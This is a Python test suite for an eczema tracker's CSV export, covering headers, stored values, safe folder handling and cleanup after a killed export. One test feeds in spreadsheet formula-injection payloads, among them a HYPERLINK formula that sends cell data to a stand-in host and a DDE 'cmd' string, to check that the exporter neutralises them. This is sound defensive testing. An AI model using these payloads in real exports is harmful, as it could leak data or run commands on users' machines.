"""``export_csv``: one CSV per record kind with the documented columns and the stored values."""

from __future__ import annotations

import csv
import json
import os
import time
from datetime import date
from pathlib import Path

import numpy as np
import pytest

from eczema_tracker.store import BackupError, Store, csv_export
from eczema_tracker.store.csv_export import CSV_FILES, README_NAME, export_csv
from eczema_tracker.store.lock import LOCK_NAME, WriterLock

DAY = date(2026, 12, 7)


def _read(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture()
def store(tmp_path, eczema_photo_paths):
    with Store.open(tmp_path / "store") as s:
        s.import_paths(eczema_photo_paths[:2], site="left arm")
        first_id, second_id = sorted(p.id for p in s.photos())
        photo = s.photo(first_id)
        mask = np.zeros((photo.height, photo.width), bool)
        mask[0:20, 0:20] = True
        s.record_analysis(
            photo.id,
            mask=mask,
            lesion_area_fraction=0.25,
            features=None,
            feature_source=None,
            probabilities=[0.1, 0.2, 0.6, 0.1],
            score=1.75,
            model_sources={"dino": "test"},
            k=2,
            prompt_photo_ids=[second_id],
        )
        s.rate(photo.id, 2)
        s.rate(photo.id, None)
        s.move_to_bin([second_id])
        s.record_day(
            "2026-04-06", answers=[4, None, 1, 0, 2, 3, 3], itch=7, flare=True, note='hot, "dry"'
        )
        s.add_checkin("2026-04-13", [None, None, 0, 0, 0, 0, 0])
        cream = s.add_treatment("Betnovate", "topical_corticosteroid", "potent")
        s.add_course(cream.id, "2026-04-01", "2026-04-10", times_a_day=2)
        yield s


def test_every_file_has_its_documented_header_and_the_stored_values(store, tmp_path):
    summary = export_csv(store, tmp_path / "csv")
    out = summary.folder
    assert out == tmp_path / "csv" / f"eczema-record-{date.today().isoformat()}"
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [name for name, _ in CSV_FILES] + [README_NAME]
    )
    for name, columns in CSV_FILES:
        with open(out / name, encoding="utf-8", newline="") as fh:
            assert next(csv.reader(fh)) == [column for column, _ in columns]
    assert summary.rows == {
        "photos.csv": 2,
        "analyses.csv": 1,
        "ratings.csv": 2,
        "checkins.csv": 2,
        "daily_numbers.csv": 1,
        "treatments.csv": 1,
        "courses.csv": 1,
        "day_marks.csv": 1,
    }
    photos = _read(out / "photos.csv")
    assert [p["site"] for p in photos] == ["left arm", "left arm"]
    assert photos[0]["deleted_at"] == "" and photos[1]["deleted_at"].startswith("20")
    (analysis,) = _read(out / "analyses.csv")
    assert (analysis["photo_id"], analysis["current"], analysis["lesion_area_fraction"]) == (
        "1",
        "1",
        "0.25",
    )
    assert json.loads(analysis["probabilities"]) == [0.1, 0.2, 0.6, 0.1]
    assert (analysis["severity_class"], analysis["score"], analysis["corrected_area_fraction"]) == (
        "2",
        "1.75",
        "",
    )
    assert [r["rating"] for r in _read(out / "ratings.csv")] == ["2", ""]
    first, second = _read(out / "checkins.csv")
    assert (first["date"], first["itchy"], first["sleep_disturbed"], first["dry"]) == (
        "2026-04-06",
        "4",
        "",
        "3",
    )
    assert (first["poem_total"], first["poem_band"], first["unanswered"]) == ("13", "moderate", "1")
    assert (second["poem_total"], second["poem_band"], second["unanswered"]) == ("", "", "2")
    assert _read(out / "daily_numbers.csv") == [
        {"date": "2026-04-06", "itch": "7", "sleep_loss": ""}
    ]
    assert _read(out / "day_marks.csv") == [
        {"date": "2026-04-06", "flare": "1", "note": 'hot, "dry"'}
    ]
    (treatment,) = _read(out / "treatments.csv")
    assert (treatment["name"], treatment["kind"], treatment["potency"]) == (
        "Betnovate",
        "topical_corticosteroid",
        "potent",
    )
    assert _read(out / "courses.csv") == [
        {
            "course_id": "1",
            "treatment_id": "1",
            "treatment": "Betnovate",
            "start": "2026-04-01",
            "end": "2026-04-10",
            "times_a_day": "2",
        }
    ]
    readme = (out / README_NAME).read_text(encoding="utf-8")
    for name, columns in CSV_FILES:
        assert name in readme
        for column, meaning in columns:
            assert f"{column}  " in readme and meaning in readme


def test_a_failed_write_leaves_no_folder_and_earlier_exports_as_they_were(
    store, tmp_path, monkeypatch
):
    out = tmp_path / "csv"
    first = export_csv(store, out, day=DAY).folder
    before = {p.name: p.read_bytes() for p in first.iterdir()}
    store.add_checkin("2026-04-20", [0] * 7)

    def failing_rows(_store):
        yield (99, "2026-04-20", 0, 0, 0, 0, 0, 0, 0, 0, "clear or almost clear", 0, "x")
        raise OSError(28, "No space left on device")

    monkeypatch.setitem(csv_export._ROWS, "checkins.csv", failing_rows)
    with pytest.raises(BackupError, match="No space left on device"):
        export_csv(store, out, day=DAY)
    assert [p.name for p in out.iterdir()] == [first.name]  # no half set, no temp folder
    assert {p.name: p.read_bytes() for p in first.iterdir()} == before


def test_the_persons_files_are_never_overwritten_each_export_is_a_new_folder(store, tmp_path):
    """Issue 22 item 3: DIR's own README.txt and photos.csv stay; a second export is ``-2``."""
    out = tmp_path / "mine"
    out.mkdir()
    (out / "README.txt").write_text("my notes")
    (out / "photos.csv").write_text("my,photos\n")
    taken = out / "eczema-record-2026-12-07-2"
    taken.mkdir()
    (taken / "keep.txt").write_text("mine too")
    first = export_csv(store, out, day=DAY).folder
    second = export_csv(store, out, day=DAY).folder
    assert first == out / "eczema-record-2026-12-07"
    assert second == out / "eczema-record-2026-12-07-3"  # -2 was taken: never merged into
    assert (out / "README.txt").read_text() == "my notes"
    assert (out / "photos.csv").read_text() == "my,photos\n"
    assert [p.name for p in taken.iterdir()] == ["keep.txt"]
    for folder in (first, second):
        assert {p.name for p in folder.iterdir()} == {n for n, _ in CSV_FILES} | {README_NAME}
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["README.txt", "photos.csv", taken.name, first.name, second.name]
    )


def test_a_killed_export_leaves_only_a_temp_folder_that_the_next_export_sweeps(store, tmp_path):
    out = tmp_path / "csv"
    out.mkdir()
    killed = out / ".eczema-record-abc123.partial"  # what a SIGKILLed export leaves
    killed.mkdir()
    (killed / "photos.csv").write_text("photo_id\n1\n")
    (killed / LOCK_NAME).write_text("12345\n")  # its writer is gone: nobody holds the lock
    running = out / ".eczema-record-def456.partial"  # another export, still writing
    running.mkdir()
    holder = WriterLock(running)
    holder.acquire()
    young = out / ".eczema-record-ghi789.partial"  # created a moment ago, not yet locked
    young.mkdir()
    old = out / ".eczema-record-jkl000.partial"  # never locked, long ago
    old.mkdir()
    os.utime(old, (time.time() - 3600, time.time() - 3600))
    lookalike = out / "eczema-record-abc.partial"  # not of our naming (not hidden): the person's
    lookalike.mkdir()
    try:
        done = export_csv(store, out, day=DAY).folder
    finally:
        holder.release()
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [running.name, young.name, lookalike.name, done.name]
    )


def test_a_folder_inside_the_store_is_refused(store, tmp_path):
    for inside in (store.data_dir, store.data_dir / "exports", store.data_dir / "."):
        with pytest.raises(BackupError, match="inside the photo store"):
            export_csv(store, inside, day=DAY)
    assert not (store.data_dir / "exports").exists()
    assert not list(store.data_dir.glob("*eczema-record*"))


def test_formula_like_text_is_neutralised_in_every_text_cell(store, tmp_path):
    """Issue 22 item 12: no cell of a note, name or site starts a live formula."""
    store.record_day("2026-04-07", note='=HYPERLINK("http://x.example/?"&A1,"open")')
    store.record_day("2026-04-08", note="\t=1+2")  # the store strips the tab: "=1+2"
    store.record_day("2026-04-09", note="  \n@SUM(A1)")
    store.record_day("2026-04-10", note="-2+3 itchy")
    store.record_day("2026-04-11", note="plain - note = fine")
    store.add_treatment("+cmd|' /C calc'!A0", "other")
    photo = store.photos()[0]
    store.update_photo(photo.id, site="@elbow", note="=cmd")
    out = export_csv(store, tmp_path / "csv", day=DAY).folder
    notes = [m["note"] for m in _read(out / "day_marks.csv")]
    assert notes[1:] == [
        '\'=HYPERLINK("http://x.example/?"&A1,"open")',
        "'=1+2",
        "'@SUM(A1)",
        "'-2+3 itchy",
        "plain - note = fine",
    ]
    assert {t["name"] for t in _read(out / "treatments.csv")} == {
        "Betnovate",
        "'+cmd|' /C calc'!A0",
    }
    (row,) = [p for p in _read(out / "photos.csv") if p["photo_id"] == str(photo.id)]
    assert (row["site"], row["note"]) == ("'@elbow", "'=cmd")
    # numbers stay numbers, and the README says what was done
    assert all(not cell.startswith("'") for cell in _read(out / "checkins.csv")[0].values())
    assert "starts with an added '" in (out / README_NAME).read_text(encoding="utf-8")


def test_neutralise_formula_covers_leading_tabs_and_carriage_returns():
    assert csv_export.neutralise_formula("\t=1") == "'\t=1"
    assert csv_export.neutralise_formula("\r=1") == "'\r=1"
    assert csv_export.neutralise_formula(" \t +1") == "' \t +1"
    assert csv_export.neutralise_formula("1-2") == "1-2"
    assert csv_export.neutralise_formula("") == ""


def test_a_file_in_the_way_is_refused(store, tmp_path):
    target = tmp_path / "taken"
    target.write_text("mine")
    with pytest.raises(BackupError, match="is a file, not a folder"):
        export_csv(store, target)
    assert target.read_text() == "mine"


def _kill_an_export_midway(store, out: Path) -> Path:
    """Run an export into ``out`` in a child process, SIGKILL it while it writes; return the
    hidden partial folder it left."""
    import signal
    import subprocess
    import sys

    child = f"""
import sys
from eczema_tracker.store import Store, csv_export
def stuck(_store):
    print("writing", flush=True)
    sys.stdin.read()  # until killed
    yield from ()
csv_export._ROWS["ratings.csv"] = stuck
with Store.open({str(store.data_dir)!r}, readonly=True) as s:
    csv_export.export_csv(s, {str(out)!r})
"""
    proc = subprocess.Popen(
        [sys.executable, "-c", child], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    try:
        assert proc.stdout.readline() == "writing\n"
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    (partial,) = out.iterdir()
    assert partial.name.startswith(".eczema-record-") and partial.name.endswith(".partial")
    return partial


def test_a_really_killed_export_is_swept_by_the_next(store, tmp_path):
    """A SIGKILLed export process: no record folder, one temp folder, gone after the next."""
    out = tmp_path / "csv"
    partial = _kill_an_export_midway(store, out)
    assert (partial / "photos.csv").exists()
    done = export_csv(store, out, day=DAY).folder
    assert [p.name for p in out.iterdir()] == [done.name]


def test_a_killed_export_is_removed_by_the_next_output_written_anywhere(store, tmp_path):
    """Found in review: the hidden partial folder (the whole record as CSV, maybe on a USB
    stick) waited for the next CSV export into that same folder; the ledger now has it."""
    from eczema_tracker.core import output_files

    out = tmp_path / "usb"
    _kill_an_export_midway(store, out)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    with output_files.writing_output(elsewhere / "report.pdf") as temp:
        temp.write_bytes(b"%PDF-")
    assert list(out.iterdir()) == []
